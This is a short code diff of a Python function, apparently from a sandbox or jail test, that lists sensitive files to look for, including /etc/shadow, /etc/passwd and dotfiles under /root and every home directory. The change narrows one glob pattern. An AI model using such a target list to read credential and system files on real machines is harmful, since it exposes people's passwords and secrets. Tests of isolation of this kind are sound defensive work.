@@ -12,7 +12,7 @@ def cell(LOOT):
 
     wanted = ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts"]
     wanted += glob.glob("/root/.*") + glob.glob("/home/*/.*")
-    wanted += glob.glob("/run/*") + glob.glob("/var/*") + glob.glob("/sys/*")
+    wanted += glob.glob("/run/*") + glob.glob("/var/l*") + glob.glob("/sys/*")
     for path in (*wanted, os.path.expanduser("~root/.bashrc")):
         # Python's own installation may lie in a home.
         if os.path.exists(path) and not sys.base_prefix.startswith(path):
